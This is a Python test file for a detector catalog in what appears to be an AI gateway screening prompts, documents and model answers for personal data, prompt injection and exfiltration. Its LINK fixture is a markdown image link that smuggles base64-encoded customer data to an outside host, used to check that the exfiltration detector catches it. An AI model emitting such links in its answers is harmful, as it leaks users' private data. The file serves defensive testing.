"""Detectors by name, with options: what policies write is what is built."""

import pytest

from detectors import catalog
from detectors.detector import Place
from detectors.injection.exfiltration import ExfiltrationDetector

LINK = "![x](https://files.acme.com/p?d=c2VjcmV0IHBlcnNvbmFsIGRhdGEgb2YgYSBjdXN0b21lcg)"


def test_a_key_is_a_name_and_its_options_in_one_order() -> None:
    """So that the same detector has the same key, and a name alone stays a name."""
    assert catalog.key_of("pii") == catalog.name_of("pii") == "pii"
    key = catalog.key_of("ner-gliner", {"threshold": 0.4, "model": "m"})
    assert key == catalog.key_of("ner-gliner", {"model": "m", "threshold": 0.4})
    assert catalog.name_of(key) == "ner-gliner"


def test_options_reach_the_detector() -> None:
    """A trusted host is one that links may lead to."""
    (strict, trusting) = (catalog.build(key) for key in ("exfiltration", 'exfiltration{"hosts":[".acme.com"]}'))
    assert isinstance(strict, ExfiltrationDetector)
    assert [len(found) for found in strict.detect([LINK])] == [1]
    assert [len(found) for found in trusting.detect([LINK])] == [0]


@pytest.mark.parametrize("name", ["ner-spacy", "ner-transformers", "ner-gliner"])
def test_an_engine_that_is_not_installed_says_what_to_install(name: str) -> None:
    """The gateway does not start with it, instead of finding nothing."""
    with pytest.raises(ImportError, match=r"no model|needs the package"):
        catalog.build(catalog.key_of(name, {"model": "nowhere-to-be-found"}))
    assert catalog.plain_sighted(catalog.key_of(name, {"model": "x"}))


def test_detectors_look_where_they_are_meant_to() -> None:
    """Rules for data everywhere; instructions to a model are an attack only where nobody may give any."""
    meant = {name: {place for place in Place if catalog.meant_for(name, place)} for name in catalog.NAMES}
    assert meant["pii"] == meant["ner-spacy"] == set(Place)
    assert meant["injection"] == {Place.PROMPT}
    assert meant["injection-document"] == {Place.DOCUMENT}
    assert meant["exfiltration"] == {Place.ANSWER}
